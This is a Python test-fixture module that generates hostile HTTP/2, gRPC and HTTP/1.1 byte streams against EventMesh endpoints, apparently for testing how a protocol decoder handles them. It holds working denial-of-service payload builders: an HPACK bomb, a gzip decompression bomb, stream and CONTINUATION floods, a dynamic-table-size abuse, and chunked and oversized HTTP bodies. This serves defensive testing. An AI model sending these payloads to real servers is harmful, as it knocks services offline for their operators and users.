"""The hostile inputs of the stream protocols (issue 24's recipes), built as bytes an attacker would send.

Each builder writes one direction of a connection as a dump (`decode -p eventmesh-grpc` / `eventmesh-http`
reads it; a capture of it is `as_capture`). Sizes are parameters: the tests run them small enough to be quick
and assert bounds that do not depend on the size; the defaults are the recipes' own.
"""
from __future__ import annotations

import gzip
import random
import struct
from typing import Iterator

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PUBLISH = "/eventmesh.common.protocol.grpc.PublisherService/publish"
SUBSCRIBE_STREAM = "/eventmesh.common.protocol.grpc.ConsumerService/subscribeStream"
MAX_FRAME = 16384


def _headers(stream_id: int, block: bytes, *, end_stream: bool, end_headers: bool = True) -> bytes:
    frame = HeadersFrame(stream_id, data=block)
    for flag, wanted in (("END_STREAM", end_stream), ("END_HEADERS", end_headers)):
        if wanted:
            frame.flags.add(flag)
    return frame.serialize()


def _data(stream_id: int, payload: bytes, *, end_stream: bool = False) -> Iterator[bytes]:
    """payload cut into DATA frames of at most MAX_FRAME bytes."""
    for at in range(0, max(len(payload), 1), MAX_FRAME):
        frame = DataFrame(stream_id, data=payload[at:at + MAX_FRAME])
        if end_stream and at + MAX_FRAME >= len(payload):
            frame.flags.add("END_STREAM")
        yield frame.serialize()


def _call_block(encoder: Encoder, path: str, extra=()) -> bytes:
    return encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "em"),
                           ("content-type", "application/grpc"), *extra])


def _start() -> bytes:
    return PREFACE + SettingsFrame(0).serialize()


def _grpc(message: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", int(compressed), len(message)) + message


def hpack_bomb(calls: int = 1000, refs: int = 255, entry: int = 4000) -> bytes:
    """Recipe 1: one call adds an `entry`-byte header to the HPACK dynamic table; then `calls` HEADERS frames
    with END_STREAM (never answered), each `refs` one-byte references to that entry (about 1 MB decoded)."""
    encoder = Encoder()
    out = [_start(), _headers(1, _call_block(encoder, PUBLISH, [("x-bomb", "b" * entry)]), end_stream=True)]
    bomb = bytes([0x80 | 62]) * refs  # indexed field 62: the newest dynamic entry (RFC 7541 section 2.3.3)
    out += [_headers(3 + 2 * i, bomb, end_stream=True) for i in range(calls)]
    return b"".join(out)


def gzip_bomb(messages: int = 12, inflated: int = 60 << 20) -> bytes:
    """Recipe 3: `messages` gzip messages of about 61 KB that each inflate to `inflated` bytes, on one stream
    that never ends."""
    encoder = Encoder()
    bomb = _grpc(gzip.compress(b"\0" * inflated, 9), compressed=True)
    out = [_start(), _headers(1, _call_block(encoder, SUBSCRIBE_STREAM, [("grpc-encoding", "gzip")]),
                             end_stream=False)]
    for _ in range(messages):
        out += _data(1, bomb)
    return b"".join(out)


def open_streams(streams: int = 200_000) -> bytes:
    """Recipe 4: `streams` calls opened (HEADERS without END_STREAM) and never ended."""
    encoder = Encoder()
    first = _call_block(encoder, PUBLISH)
    again = _call_block(encoder, PUBLISH)  # all indexed now: a few bytes a call
    return b"".join([_start(), _headers(1, first, end_stream=False)]
                    + [_headers(3 + 2 * i, again, end_stream=False) for i in range(streams - 1)])


def continuation_flood(size: int = 393 << 20, piece: int = 1 << 20) -> Iterator[bytes]:
    """Recipe 5: a HEADERS frame without END_HEADERS, then CONTINUATION frames (never END_HEADERS) up to about
    `size` bytes, yielded in pieces of about `piece` bytes (to be piped, never held whole)."""
    encoder = Encoder()
    yield _start() + _headers(1, _call_block(encoder, PUBLISH), end_stream=True, end_headers=False)
    frame = ContinuationFrame(1, data=b"\x40\x01a\x01b" * (MAX_FRAME // 5)).serialize()
    per_piece = max(1, piece // len(frame))
    sent = 0
    while sent < size:
        yield frame * per_piece
        sent += len(frame) * per_piece


def table_size_update(blocks: int = 60, entries: int = 8000) -> bytes:
    """Recipe 6: header blocks that each set the HPACK dynamic table's size to 2^32-1 and add `entries` small
    entries with incremental indexing (split over CONTINUATION frames), on streams that end at once."""
    update = bytes([0x3F]) + _hpack_int_tail((1 << 32) - 1 - 31)  # size update, 5-bit prefix all ones
    out = [_start()]
    serial = 0
    for b in range(blocks):
        fields = []
        for _ in range(entries):
            name, value = b"n%x" % serial, b"v"
            fields.append(b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value)
            serial += 1
        block = update + b"".join(fields)
        stream_id = 1 + 2 * b
        pieces = [block[at:at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]
        out.append(_headers(stream_id, pieces[0], end_stream=True, end_headers=len(pieces) == 1))
        for i, piece in enumerate(pieces[1:], 1):
            frame = ContinuationFrame(stream_id, data=piece)
            if i == len(pieces) - 1:
                frame.flags.add("END_HEADERS")
            out.append(frame.serialize())
    return b"".join(out)


def _hpack_int_tail(value: int) -> bytes:
    """The continuation bytes of an HPACK integer (RFC 7541 section 5.1) after a full prefix."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def one_stream_messages(messages: int = 200_000) -> bytes:
    """Recipe 7: `messages` (empty) gRPC messages on one stream that never ends."""
    encoder = Encoder()
    payload = _grpc(b"") * messages
    return b"".join([_start(), _headers(1, _call_block(encoder, SUBSCRIBE_STREAM), end_stream=False),
                     *_data(1, payload)])


def random_bytes(size: int = 4 << 20, seed: int = 24) -> bytes:
    """Recipe 8: random bytes (no preface), as a capture of garbage on a gRPC port gives."""
    return random.Random(seed).randbytes(size)


def http_chunk_flood(chunks: int = 4_000_000) -> bytes:
    """Recipe 9: one chunked EventMesh HTTP request whose body is `chunks` one-byte chunks."""
    head = (b"POST /eventmesh/publish HTTP/1.1\r\nHost: em\r\ncode: 104\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")
    return head + b"1\r\na\r\n" * chunks + b"0\r\n\r\n"


def http_huge_body(size: int = 200 << 20) -> Iterator[bytes]:
    """Recipe 9: one EventMesh HTTP request with a `size`-byte body, yielded in 1 MiB pieces."""
    yield (b"POST /eventmesh/publish HTTP/1.1\r\nHost: em\r\ncode: 104\r\n"
           b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % size)
    piece = b"a" * (1 << 20)
    for at in range(0, size, len(piece)):
        yield piece[:size - at]


def as_capture(request: bytes, server_port: int = 10205) -> bytes:
    """A pcap of one connection whose client sent `request` (the server answered nothing)."""
    from inlong_proto.capture.writer import Conversation, pcap_file

    conv = Conversation(client=("10.0.0.1", 40000), server=("10.0.0.2", server_port))
    return pcap_file(conv.open(0) + conv.send("client", request, 1000) + conv.close(2000))
